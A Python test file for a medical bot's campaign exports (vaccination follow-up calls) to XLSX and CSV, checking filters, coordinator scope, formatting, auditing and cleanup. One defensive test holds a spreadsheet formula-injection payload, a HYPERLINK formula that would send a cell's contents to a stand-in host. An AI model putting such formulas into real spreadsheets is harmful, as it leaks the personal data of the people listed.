"""Campaign exports for medical organisations: rows and filters on a mixed campaign, the
coordinator's scope, the XLSX (opened with openpyxl, cell by cell) and the CSV."""

from __future__ import annotations

import csv
import io
from collections.abc import AsyncIterator
from datetime import UTC, date, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook
from sqlalchemy import select
from sqlalchemy.ext.asyncio import AsyncSession, async_sessionmaker

from bot.i18n import Translator
from bot.services import campaign_export as cx
from bot.services import campaigns
from bot.services.territories import load_from_file
from bot.services.users import Roles
from models import (
    AuditEntry,
    Campaign,
    CampaignContact,
    CampaignPerson,
    CampaignTerritory,
    Territory,
    migrate,
)
from models.db import create_engine, create_sessionmaker

NOW = datetime(2026, 11, 30, 6, 0, tzinfo=UTC)  # 13:00 in Asia/Novokuznetsk
CREATOR = 1


def labels(locale: str = "ru") -> cx.Labels:
    tr = Translator("ru")

    def _(key: str, **kwargs: Any) -> str:
        return tr.get(locale, key, **kwargs)

    return cx.Labels(
        headers=[_(f"cexp-col-{c.value}") for c in cx.COLUMNS],
        row_status=lambda s: _(f"cexp-row-{s.value}"),
        outcome=lambda o: _("cexp-outcome", outcome=o),
        yes=_("cexp-yes"),
        no=_("cexp-no"),
        feeling=lambda f: _(f"cexp-feeling-{f}"),
        reason=lambda r: _(f"script-reason-{r}"),
        no_clinic=_("cexp-no-clinic"),
        sheet=_("cexp-sheet"),
    )


class World:
    def __init__(self, sessions: async_sessionmaker[AsyncSession], campaign_id: int) -> None:
        self.sessions = sessions
        self.campaign_id = campaign_id
        self.ids: dict[str, int] = {}


async def _person(
    session: AsyncSession,
    campaign_id: int,
    territory_id: int,
    name: str,
    *,
    clinic: str | None = None,
    status: str = "queued",
    last_outcome: str | None = None,
    contacts: list[tuple[str, dict[str, Any], datetime]] = (),  # type: ignore[assignment]
) -> int:
    person = CampaignPerson(
        campaign_id=campaign_id, territory_id=territory_id, full_name=name, phone="+79031234567",
        birth_year=1950, address="ул. Ленина, 1", consent_on=date(2026, 11, 1),
        clinic=clinic, status=status, last_outcome=last_outcome, created_at=NOW, updated_at=NOW,
    )  # fmt: skip
    session.add(person)
    await session.flush()
    for outcome, answers, at in contacts:
        session.add(
            CampaignContact(
                campaign_id=campaign_id,
                person_id=person.id,
                by_user_id=5,
                kind="call",
                round=0,
                outcome=outcome,
                answers=answers,
                created_at=at,
            )
        )
    return person.id


@pytest.fixture
async def world(database_url: str) -> AsyncIterator[World]:
    engine = create_engine(database_url)
    sessions = create_sessionmaker(engine)
    try:
        await migrate.upgrade(engine)
        async with sessions() as s:
            await load_from_file(s, "kuzbass", NOW)
            ids = dict((await s.execute(select(Territory.code, Territory.id))).all())
            campaign = Campaign(
                name="Обзвон", rounds=[0, 7], window_start=600, window_end=1140, attempts=3,
                retry_minutes=120, visit_after=None, created_by=CREATOR, created_at=NOW,
                updated_at=NOW,
            )  # fmt: skip
            s.add(campaign)
            await s.flush()
            for code in ("yurga", "tayga"):
                s.add(CampaignTerritory(campaign_id=campaign.id, territory_id=ids[code]))
            w = World(sessions, campaign.id)
            w.ids = ids
            old = NOW - timedelta(days=20)
            recent = NOW - timedelta(days=2)
            yes = {"vaccinated": True, "feeling": "well"}
            unwell = {"vaccinated": True, "feeling": "unwell", "unwell_note": "жар"}
            plan = {"vaccinated": False, "reason": "time", "planned_on": "2026-12-05"}
            cid, yurga, tayga = campaign.id, ids["yurga"], ids["tayga"]
            await _person(s, cid, yurga, "Вакцинированная", clinic="Поликлиника №1",
                          status="queued",
                          contacts=[("no_answer", {}, old), ("reached", yes, recent)])  # fmt: skip
            await _person(s, cid, yurga, "Плохо себя чувствует", clinic="Поликлиника №1",
                          contacts=[("reached", unwell, old)])  # fmt: skip
            await _person(s, cid, tayga, "Планирует", clinic="Поликлиника: Тайга/2",
                          contacts=[("reached", plan, recent)])  # fmt: skip
            await _person(s, cid, tayga, "Отказ", status="stopped", last_outcome="refused",
                          contacts=[("refused", {}, recent)])  # fmt: skip
            await _person(s, cid, yurga, "Недозвон", status="unreachable",
                          last_outcome="no_answer",
                          contacts=[("no_answer", {}, old)] * 3)  # fmt: skip
            await _person(s, cid, yurga, "Ждёт")
            await s.commit()
        yield w
    finally:
        await engine.dispose()


async def _rows(w: World, filters: cx.Filters, scope: frozenset[int] | None = None) -> list[Any]:
    async with w.sessions() as s:
        out = []
        async for chunk in cx.iter_rows(s, w.campaign_id, scope, filters, labels(), "ru"):
            out.extend(chunk)
        return out


def _names(rows: list[Any]) -> list[str]:
    return [row[0] for _, row in rows]


async def test_rows_and_filters(world: World) -> None:
    rows = await _rows(world, cx.Filters())
    assert len(rows) == 6
    by_name = {row[0]: (clinic, row) for clinic, row in rows}
    clinic, vacc = by_name["Вакцинированная"]
    assert clinic == "Поликлиника №1"
    # name, year, phone, territory, address, clinic, status, outcome, last, attempts, ...
    assert vacc[:8] == [
        "Вакцинированная", 1950, "+79031234567", "Юргинский городской округ", "ул. Ленина, 1",
        "Поликлиника №1", "привит(а)", "дозвонились",
    ]  # fmt: skip
    local = (NOW - timedelta(days=2) + timedelta(hours=7)).replace(tzinfo=None)
    assert vacc[8] == local and vacc[9] == 2
    assert vacc[10:] == ["да", local, "хорошо", local, None, None, None, None]
    _, plan = by_name["Планирует"]
    assert plan[6] == "не привит(а), планирует"
    assert plan[10:] == [
        "нет",
        plan[8],
        None,
        None,
        None,
        "Нет времени",
        plan[8],
        date(2026, 12, 5),
    ]
    assert by_name["Плохо себя чувствует"][1][14] == "жар"
    assert by_name["Отказ"][1][6:8] == ["отказ", "отказ"]
    assert by_name["Недозвон"][1][6] == "не дозвонились" and by_name["Недозвон"][1][9] == 3
    assert by_name["Ждёт"][1][6:10] == ["ещё не дозвонились", None, None, 0]

    async def names(**kw: Any) -> set[str]:
        return set(_names(await _rows(world, cx.Filters(**kw))))

    S = cx.StatusFilter
    assert await names(status=S.REACHED) == {"Вакцинированная", "Плохо себя чувствует", "Планирует"}
    assert await names(status=S.VACCINATED) == {"Вакцинированная", "Плохо себя чувствует"}
    assert await names(status=S.UNWELL) == {"Плохо себя чувствует"}
    assert await names(status=S.PLANNING) == {"Планирует"}
    assert await names(status=S.REFUSED) == {"Отказ"}
    assert await names(status=S.STOPPED) == {"Отказ"}
    assert await names(status=S.UNREACHABLE) == {"Недозвон"}
    assert await names(territory_id=world.ids["tayga"]) == {"Планирует", "Отказ"}
    week = await _rows(world, cx.Filters(since=NOW - timedelta(days=7)))
    assert set(_names(week)) == {"Вакцинированная", "Планирует", "Отказ"}
    # Within the period only its contacts count: one attempt, not two.
    assert {row[0]: row[9] for _, row in week}["Вакцинированная"] == 1


async def test_scope_of_a_read_only_coordinator(world: World) -> None:
    tayga = world.ids["tayga"]
    roles = Roles(is_coordinator=True, territory_ids=frozenset({tayga}))
    async with world.sessions() as s:
        access = await campaigns.access(s, world.campaign_id, roles, 99)
        assert access is not None and not access.manage
        assert access.territory_ids == frozenset({tayga})
        found = await cx.territories_in_scope(s, world.campaign_id, access.territory_ids)
        assert [t.id for t in found] == [tayga]
    rows = await _rows(world, cx.Filters(), access.territory_ids)
    assert set(_names(rows)) == {"Планирует", "Отказ"}
    # A territory outside the scope (a forged button) gives nothing.
    outside = cx.Filters(territory_id=world.ids["yurga"])
    assert await _rows(world, outside, access.territory_ids) == []


def test_sheet_names() -> None:
    names = cx.sheet_names(["Поликлиника: Тайга/2", "A" * 40, "a" * 40, None], "Без поликлиники")
    assert names[0] == "Поликлиника  Тайга 2"
    assert all(len(n) <= 31 for n in names)
    assert len({n.casefold() for n in names}) == 4
    assert names[3] == "Без поликлиники"


async def _export(w: World, fmt: cx.Format, tmp_path: Path, **kw: Any) -> cx.Result:
    async with w.sessions() as s:
        return await cx.export(
            s, campaign_id=w.campaign_id, scope=None, filters=cx.Filters(**kw), fmt=fmt,
            labels=labels(), locale="ru", base_name="campaign-export",
        )  # fmt: skip


async def test_xlsx_cell_by_cell(world: World, tmp_path: Path) -> None:
    result = await _export(world, cx.Format.XLSX, tmp_path)
    try:
        assert result.rows == 6 and len(result.files) == 1
        book = load_workbook(result.files[0].path)
        assert book.sheetnames == ["Поликлиника №1", "Поликлиника  Тайга 2", "Без поликлиники"]
        ws = book["Поликлиника №1"]
        header = [c.value for c in ws[1]]
        assert header == labels().headers
        assert all(c.font.bold for c in ws[1])
        assert ws.freeze_panes == "A2"
        assert ws.auto_filter.ref == "A1:R3"
        assert abs(ws.column_dimensions["A"].width - cx.WIDTHS[cx.Column.NAME]) < 1  # +padding
        assert abs(ws.column_dimensions["E"].width - cx.WIDTHS[cx.Column.ADDRESS]) < 1
        assert [ws.cell(r, 1).value for r in (2, 3)] == ["Вакцинированная", "Плохо себя чувствует"]
        when = ws.cell(2, 9)
        assert isinstance(when.value, datetime) and when.is_date
        assert when.value == (NOW - timedelta(days=2) + timedelta(hours=7)).replace(tzinfo=None)
        assert when.number_format == cx.DATETIME_FORMAT
        assert ws.cell(2, 2).value == 1950 and ws.cell(2, 10).value == 2
        planned = book["Поликлиника  Тайга 2"].cell(2, 18)
        assert planned.is_date and planned.value == datetime(2026, 12, 5)
        rest = book["Без поликлиники"]
        assert {rest.cell(r, 1).value for r in range(2, rest.max_row + 1)} == {
            "Отказ", "Недозвон", "Ждёт",
        }  # fmt: skip
        path = result.files[0].path
    finally:
        result.cleanup()
    assert not path.exists() and result.directory is not None and not result.directory.exists()


async def test_xlsx_one_sheet_without_clinics(world: World, tmp_path: Path) -> None:
    result = await _export(world, cx.Format.XLSX, tmp_path, status=cx.StatusFilter.UNREACHABLE)
    try:
        book = load_workbook(result.files[0].path)
        assert book.sheetnames == ["Люди"]
        assert book["Люди"].auto_filter.ref == "A1:R2"
    finally:
        result.cleanup()


async def test_csv_per_clinic_with_bom(world: World, tmp_path: Path) -> None:
    result = await _export(world, cx.Format.CSV, tmp_path)
    try:
        assert [f.name for f in result.files] == [
            "Поликлиника №1", "Поликлиника: Тайга/2", "Без поликлиники",
        ]  # fmt: skip
        data = result.files[0].path.read_bytes()
        assert data.startswith(b"\xef\xbb\xbf")
        rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))
        assert rows[0] == list(labels().headers)
        assert [r[0] for r in rows[1:]] == ["Вакцинированная", "Плохо себя чувствует"]
        local = (NOW - timedelta(days=2) + timedelta(hours=7)).strftime("%d.%m.%Y %H:%M")
        assert rows[1][8] == local
    finally:
        result.cleanup()
    single = await _export(world, cx.Format.CSV, tmp_path, status=cx.StatusFilter.STOPPED)
    try:
        assert len(single.files) == 1 and single.files[0].name == ""
    finally:
        single.cleanup()


async def test_audit_record(world: World) -> None:
    await cx.record(
        world.sessions, campaign_id=world.campaign_id, user_id=CREATOR, roles=Roles(is_hq=True),
        filters=cx.Filters(status=cx.StatusFilter.VACCINATED), fmt=cx.Format.XLSX, rows=2,
        now=NOW,
    )  # fmt: skip
    async with world.sessions() as s:
        entry = await s.scalar(select(AuditEntry).where(AuditEntry.action == "campaign_export"))
        assert entry is not None and entry.actor_id == CREATOR
        assert entry.details["status"] == "vaccinated" and entry.details["rows"] == 2
        assert entry.details["format"] == "xlsx"


def test_csv_cells_never_run_as_formulas() -> None:
    assert cx._csv_value('=HYPERLINK("http://x/?"&C2)') == '\'=HYPERLINK("http://x/?"&C2)'
    assert cx._csv_value("-плохо") == "'-плохо"
    assert cx._csv_value("+79131234567") == "+79131234567"  # a phone stays a phone
    assert cx._csv_value("Петрова") == "Петрова"


def test_cleanup_removes_unfinished_files(tmp_path: Path) -> None:
    directory = tmp_path / "export"
    directory.mkdir()
    (directory / "half-written.csv").write_text("Петрова;+79131234567", encoding="utf-8")
    cx.Result(directory=directory).cleanup()  # the file never made it into ``files``
    assert not directory.exists()
